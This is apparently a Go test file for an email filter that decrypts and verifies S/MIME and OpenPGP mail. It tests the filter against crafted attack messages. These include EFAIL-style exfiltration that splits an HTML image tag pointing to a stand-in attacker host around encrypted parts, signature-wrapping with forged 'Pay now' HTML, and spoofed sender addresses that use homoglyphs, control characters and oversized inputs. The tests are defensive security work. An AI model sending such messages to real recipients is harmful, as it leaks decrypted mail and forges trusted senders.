package milter

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"log/slog"
	"net/netip"
	"regexp"
	"strings"
	"testing"

	"waxseal/policies"
	"waxseal/signer"
	"waxseal/test/identities"
)

// secret is in every sample.
const secret = "Hello Alice"

// attack is a message that means harm, and what has to be said of it.
type attack struct {
	name    string
	message string // from the MIME fields on
	header  string // further fields
	from    string // that of Bob, whose signatures are good, if empty
	to      []string
	// authres and report are expressions for the fields.
	authres, report string
	shown           bool   // the secret is in what is delivered
	hasNot          string // what is delivered doesn't have this
}

// deliveredWith runs a message through a filter and checks what holds always:
// nothing of the text in the log, the reply or a report, and no result that
// passes if nothing may.
func deliveredWith(t *testing.T, f *Filter, a attack) (*Outcome, string) {
	t.Helper()
	tx := newTestTransaction(t, "From: "+or(a.from, identities.Bob)+"\r\nTo: alice@example.com\r\nSubject: s\r\n"+a.header+a.message)
	tx.Sender, tx.Recipients = "envelope@evil.example", a.to
	if a.to == nil {
		tx.Recipients = []string{identities.Alice}
	}
	tx.Client = netip.MustParseAddr("192.0.2.1")
	out, err := f.Apply(t.Context(), tx)
	if err != nil {
		t.Fatal(err)
	}
	var line bytes.Buffer
	slog.New(slog.NewTextHandler(&line, nil)).LogAttrs(t.Context(), slog.LevelInfo, "message", out.Log...)
	edits := ""
	for _, e := range out.Edits {
		if e.Kind == Insert {
			edits += e.Value
		}
	}
	for what, said := range map[string]string{"log": line.String(), "reply": out.Reply.String(), "reports": edits} {
		if strings.Contains(said, "Hello") {
			t.Errorf("the %s has text of the message: %s", what, said)
		}
	}
	if out.Body != nil && strings.Contains(out.Reply.Text, secret) {
		t.Errorf("reply %s", out.Reply)
	}
	if out.Action == policies.Reject || out.Action == policies.Tempfail || out.Action == policies.Discard {
		return out, ""
	}
	return out, resultOf(t, tx, out)
}

func (a attack) check(t *testing.T, f *Filter) {
	t.Helper()
	out, got := deliveredWith(t, f, a)
	if out.Action != policies.Accept {
		t.Fatalf("action %s: %s %v", out.Action, out.Reply, out.Log)
	}
	header, _, err := signer.ReadHeader(strings.NewReader(got), 4<<20)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(header.Fields(ReportName)); n != 1 {
		t.Errorf("%d reports", n)
	}
	authres := ""
	for _, field := range header.Fields(AuthresName) {
		authres += field.Value() + "\n"
	}
	if !regexp.MustCompile(or(a.authres, "smime=none; x-openpgp=none")).MatchString(authres) {
		t.Errorf("Authentication-Results is %q, want %q", authres, a.authres)
	}
	if !strings.Contains(a.authres, "=pass") && strings.Contains(authres, "=pass") {
		t.Errorf("it passes: %s", authres)
	}
	match(t, "report", a.report, header.Get(ReportName))
	if shown := strings.Contains(got, secret); shown != a.shown {
		t.Errorf("the text is delivered: %v, want %v\n%s", shown, a.shown, got)
	}
	if a.hasNot != "" && strings.Contains(got, a.hasNot) {
		t.Errorf("delivered with %q:\n%s", a.hasNot, got)
	}
	// Decrypted text never comes back in a bounce.
	if out.Body != nil && strings.Contains(header.Get(ReportName), "decrypt=pass") && !out.NoReturn {
		t.Error("the text may come back in a bounce")
	}
}

// part is a message without its MIME-Version, as a part of another one.
func part(message string) string {
	return regexp.MustCompile(`(?m)^MIME-Version: 1.0\r\n`).ReplaceAllString(message, "")
}

// multipart makes a multipart of parts.
func multipart(kind string, parts ...string) string {
	var b strings.Builder
	b.WriteString("Content-Type: multipart/" + kind + "; boundary=\"=_attack\"\r\n\r\n")
	for _, p := range parts {
		b.WriteString("--=_attack\r\n" + p + "\r\n")
	}
	return b.String() + "--=_attack--\r\n"
}

const (
	openImage  = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
	closeImage = "Content-Type: text/html\r\n\r\n\">"
	note       = "Content-Type: text/plain\r\n\r\nPlease answer.\r\n"
)

// exfiltrations put an encrypted message beside text of the attacker's.
func exfiltrations(all map[string]string) []attack {
	smime, pgp, inline := part(all["smime encrypted"]), all["pgp encrypted"], all["pgp inline"]
	const partSMIME, partPGP = `decrypt=policy \(smime: only a part`, `decrypt=policy \(pgp: only a part`
	attacks := []attack{
		{name: "S/MIME between two halves of an image", message: multipart("mixed", openImage, smime, closeImage), report: partSMIME},
		{name: "S/MIME before HTML", message: multipart("mixed", smime, closeImage), report: partSMIME},
		{name: "S/MIME alone in a multipart", message: multipart("mixed", smime), report: partSMIME},
		{name: "PGP/MIME between two halves of an image", message: multipart("mixed", openImage, pgp, closeImage), report: partPGP},
		{name: "inline PGP beside HTML", message: multipart("alternative", inline, openImage), report: partPGP},
		{name: "inline PGP in base64 beside HTML", message: multipart("mixed", openImage, inBase64(inline)), report: partPGP},
		{name: "inline PGP with words before it", message: strings.Replace(inline, "\r\n\r\n", "\r\n\r\nsee:\r\n", 1), report: partPGP},
		{name: "an encrypted part of multipart/related", message: multipart("related", openImage, smime), report: partSMIME},
		{name: "deep inside", message: multipart("mixed", note, strings.ReplaceAll(multipart("alternative", note, strings.ReplaceAll(multipart("related", smime), "=_attack", "=_3")), "=_attack", "=_2")), report: partSMIME},
		{name: "in an attached message", message: multipart("mixed", note, "Content-Type: message/rfc822\r\n\r\nFrom: bob@partner.example\r\n"+smime), report: "decrypt=none"},
		{name: "an attached message and nothing else", message: "Content-Type: message/rfc822\r\n\r\nFrom: bob@partner.example\r\n" + smime, report: "decrypt=none"},
		{name: "PGP/MIME with a third part", message: strings.Replace(pgp, "--b--", "--b\r\n"+closeImage+"\r\n--b--", 1), report: partPGP},
		{name: "PGP/MIME as Exchange leaves it, with HTML", message: strings.Replace(strings.Replace(pgp, "multipart/encrypted", "multipart/mixed", 1), "--b\r\n", "--b\r\n"+openImage+"\r\n--b\r\n", 1), report: partPGP},
		{name: "in a calendar's place", message: strings.Replace(smime, "application/pkcs7-mime", "application/ics", 1), report: "decrypt=none"},
		{name: "as a picture", message: strings.Replace(smime, "application/pkcs7-mime", "image/png", 1), report: "decrypt=none"},
	}
	// What is decrypted here is delivered alone.
	return append(attacks,
		attack{name: "signed by somebody, with a third part", message: "Content-Type: multipart/signed; boundary=\"=_attack\"\r\n\r\n--=_attack\r\n" + smime + "\r\n--=_attack\r\n" + note + "\r\n--=_attack\r\n" + closeImage + "\r\n--=_attack--\r\n",
			authres: "smime=permerror", report: "decrypt=none"},
		attack{name: "in the place of the signed part", message: "Content-Type: multipart/signed; boundary=\"=_attack\"\r\n\r\n<b>preamble\r\n--=_attack\r\n" + smime + "\r\n--=_attack\r\n" + closeImage + "\r\n--=_attack--\r\nepilogue\r\n",
			authres: "smime=permerror", report: "decrypt=pass", shown: true, hasNot: "\">"},
		attack{name: "PGP/MIME with a preamble", message: strings.Replace(pgp, "\r\n\r\n--b", "\r\n\r\n<img src=\"http://evil.example/\r\n--b", 1), report: "decrypt=pass", shown: true, hasNot: "evil"},
		attack{name: "PGP/MIME as Exchange leaves it", message: strings.Replace(strings.Replace(pgp, "multipart/encrypted", "multipart/mixed", 1), "--b\r\n", "--b\r\nContent-Type: text/plain\r\n\r\n\r\n--b\r\n", 1),
			report: "decrypt=pass", shown: true, hasNot: "mixed"},
		attack{name: "two types, of which one is HTML", header: "Content-Type: text/html\r\nContent-Disposition: inline\r\n", message: "X: y\r\n" + smime, report: "decrypt=none"},
		attack{name: "a type of the outside stays outside", header: "Content-Description: <img src=x>\r\nContent-ID: <evil>\r\n", message: smime, report: "decrypt=pass", shown: true, hasNot: "evil"},
	)
}

func inBase64(leaf string) string {
	_, body, _ := strings.Cut(leaf, "\r\n\r\n")
	return "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + wrap(base64.StdEncoding.EncodeToString([]byte(body)))
}

func wrap(text string) string {
	var b strings.Builder
	for len(text) > 76 {
		b.WriteString(text[:76] + "\r\n")
		text = text[76:]
	}
	return b.String() + text + "\r\n"
}

// wrappings put a good signature where it does not cover what is shown.
func wrappings(all map[string]string) []attack {
	signed, pgp, clear := part(all["smime signed"]), all["pgp signed"], all["pgp clear-signed"]
	const forged = "Content-Type: text/html\r\n\r\n<p>Pay now.</p>"
	const covers = `=neutral \(integrity neutral: the signature covers part`
	boundary := regexp.MustCompile(`boundary="([^"]+)"`).FindStringSubmatch(signed)[1]
	return []attack{
		{name: "a signed part behind HTML", message: multipart("mixed", forged, signed), authres: "smime" + covers + " 2", report: "verify=none", shown: true},
		{name: "a signed part before HTML", message: multipart("mixed", signed, forged), authres: "smime" + covers + " 1", report: "verify=none", shown: true},
		{name: "a signed alternative", message: multipart("alternative", signed, forged), authres: "smime" + covers, report: "verify=none", shown: true},
		{name: "a signed related part", message: multipart("related", forged, signed), authres: "smime" + covers, report: "verify=none", shown: true},
		{name: "a signed part deep inside", message: multipart("mixed", strings.ReplaceAll(multipart("related", forged, signed), "=_attack", "=_2")), authres: `covers part 1\.2`, report: "verify=none", shown: true},
		{name: "alone in a multipart", message: multipart("mixed", signed), authres: "smime" + covers, report: "verify=none", shown: true},
		{name: "OpenPGP, behind HTML", message: multipart("mixed", forged, pgp), authres: "x-openpgp" + covers, report: "verify=none", shown: true},
		{name: "an attached signed message", message: multipart("mixed", forged, "Content-Type: message/rfc822\r\n\r\nFrom: bob@partner.example\r\n"+signed), report: "verify=none", shown: true},
		{name: "a signed message inside nothing", message: "Content-Type: message/rfc822\r\n\r\nFrom: bob@partner.example\r\n" + signed, report: "verify=none", shown: true},
		{name: "in front of the signed part", message: strings.Replace(signed, "\r\n--"+boundary, "\r\n<p>Pay now.</p>\r\n--"+boundary, 1), authres: "smime=neutral .*beside", report: "verify=neutral", shown: true},
		{name: "behind the signed part", message: signed + "<p>Pay now.</p>\r\n", authres: "smime=neutral .*beside", report: "verify=neutral", shown: true},
		{name: "a third part", message: strings.Replace(signed, "--"+boundary+"--", "--"+boundary+"\r\n"+forged+"\r\n--"+boundary+"--", 1), authres: "smime=permerror", report: "verify=permerror", shown: true},
		{name: "a first part", message: strings.Replace(signed, "--"+boundary, "--"+boundary+"\r\n"+forged+"\r\n--"+boundary, 1), authres: "smime=permerror", report: "verify=permerror", shown: true},
		{name: "without an end", message: strings.TrimSuffix(strings.TrimRight(signed, "\r\n"), "--"+boundary+"--"), authres: "smime=permerror", report: "verify=permerror", shown: true},
		{name: "another protocol", message: regexp.MustCompile(`protocol="[^"]*"`).ReplaceAllString(signed, `protocol="application/pgp-signature"`), authres: "x-openpgp=permerror", report: "verify=permerror", shown: true},
		{name: "two types", header: "Content-Type: text/html\r\n", message: signed, report: "verify=none", shown: true},
		{name: "two types the other way", header: strings.SplitAfter(signed, "\r\n\r\n")[0][:strings.Index(signed, "\r\n\r\n")+2], message: "Content-Type: text/html\r\n\r\n" + strings.SplitN(signed, "\r\n\r\n", 2)[1], authres: "smime=permerror", report: "verify=permerror", shown: true},
		{name: "a text altered", message: strings.Replace(signed, "\r\n\r\nHello", "\r\n\r\nPay. Hello", 1), authres: "smime=fail .*integrity fail", report: "verify=fail", shown: true},
		{name: "a header of the part altered", message: strings.Replace(signed, "text/plain", "text/html", 1), authres: "smime=fail", report: "verify=fail", shown: true},
		{name: "words before clear-signed text", message: strings.Replace(clear, "\r\n\r\n", "\r\n\r\nPay now.\r\n", 1), authres: "x-openpgp=neutral .*beside", report: "verify=none", shown: true},
		{name: "words behind clear-signed text", message: clear + "\r\nPay now.\r\n", authres: "x-openpgp=neutral .*beside", report: "verify=none", shown: true},
		{name: "clear-signed text in HTML", message: strings.Replace(clear, "text/plain", "text/html", 1), report: "verify=none", shown: true},
		{name: "clear-signed text as a part", message: multipart("mixed", clear, forged), report: "verify=none", shown: true},
		{name: "a signed From that is another", message: strings.Replace(all["smime with from"], "MIME-Version: 1.0\r\n", "", 1), authres: "smime=neutral .*the signed header names another author", report: "verify=neutral", shown: true},
	}
}

// identities that look like that of the signer.
func disguises(all map[string]string) []attack {
	var attacks []attack
	for from, want := range map[string]string{
		`Bob <eve@evil.example>`:                                   "(fail|neutral)",
		`"bob@partner.example" <eve@evil.example>`:                 "(fail|neutral)",
		`eve@evil.example, bob@partner.example`:                    "neutral",
		`bob@partner.example, eve@evil.example`:                    "neutral",
		`=?utf-8?q?bob=40partner.example?= <eve@evil.example>`:     "(fail|neutral)",
		`eve@evil.example <bob@partner.example>`:                   "neutral",
		"\"Eve\x00 eve@evil.example\" <bob@partner.example>":       "neutral",
		`<bob@partner.example> <eve@evil.example>`:                 "(fail|neutral)",
		`Partners: bob@partner.example, eve@evil.example;`:         "neutral",
		`bob@partner.example (eve@evil.example)`:                   "neutral",
		`<@evil.example:bob@partner.example>`:                      "neutral",
		"bob@partner.example\u202e <eve@evil.example>":             "(fail|neutral)",
		`"eve@evil.example' via Bob" <bob@partner.example>`:        "neutral",
		`bob@partner.example.evil.example`:                         "(fail|neutral)",
		"b\u043eb@partner.example":                                 "(fail|neutral)",
		`"bob@partner.example"@evil.example`:                       "(fail|neutral)",
		`bob@partner.example@evil.example`:                         "(fail|neutral)",
		strings.Repeat("(", 5000) + `bob@partner.example`:          "neutral",
		strings.Repeat(`"x" `, 5000) + ` <bob@partner.example`:     "neutral",
		strings.Repeat(`a@b.example, `, 5000) + `bob@partner.exam`: "neutral",
	} {
		for _, scheme := range []string{"smime signed", "pgp signed"} {
			attacks = append(attacks, attack{name: fmt.Sprintf("%s from %.60q", scheme, from), from: from, message: all[scheme], authres: "=" + want, report: "verify=" + want, shown: true})
		}
	}
	for _, header := range []string{"From: eve@evil.example\r\n", "FROM : eve@evil.example\r\n", "Sender: eve@evil.example\r\n", "Sender: bob@partner.example\r\nSender: eve@evil.example\r\n", "Resent-From: eve@evil.example\r\n"} {
		attacks = append(attacks, attack{name: fmt.Sprintf("with %q", header), header: header, message: all["smime signed"], authres: "smime=neutral", report: "verify=neutral", shown: true})
	}
	return attacks
}

func testAttacks(t *testing.T, set *identities.Set) {
	all := samples(t, set)
	all["smime with from"] = crlf(run(t, "From: eve@evil.example\r\nSubject: pay\r\n"+innerEntity, "openssl", "cms", "-sign", "-md", "sha256",
		"-signer", set.Certificate(identities.Bob), "-inkey", set.Key(identities.Bob), "-certfile", set.Certificate("intermediate")))
	f := newIncoming(t, set, incomingPolicy)
	strict := newIncoming(t, set, strings.Replace(incomingPolicy, "decrypt {}", `decrypt {}
  on_bad_signature = "reject"
  on_untrusted = "reject"
  on_no_signature = "quarantine"
  on_decrypt_error = "reject"`, 1))
	for group, attacks := range map[string][]attack{
		"exfiltration": exfiltrations(all), "wrapping": wrappings(all), "disguise": disguises(all),
	} {
		for _, a := range attacks {
			t.Run(group+"/"+a.name, func(t *testing.T) {
				a.check(t, f)
				if out, _ := deliveredWith(t, strict, a); out.Action == policies.Accept {
					t.Errorf("taken for a good one: %v", out.Log)
				}
			})
		}
	}
}
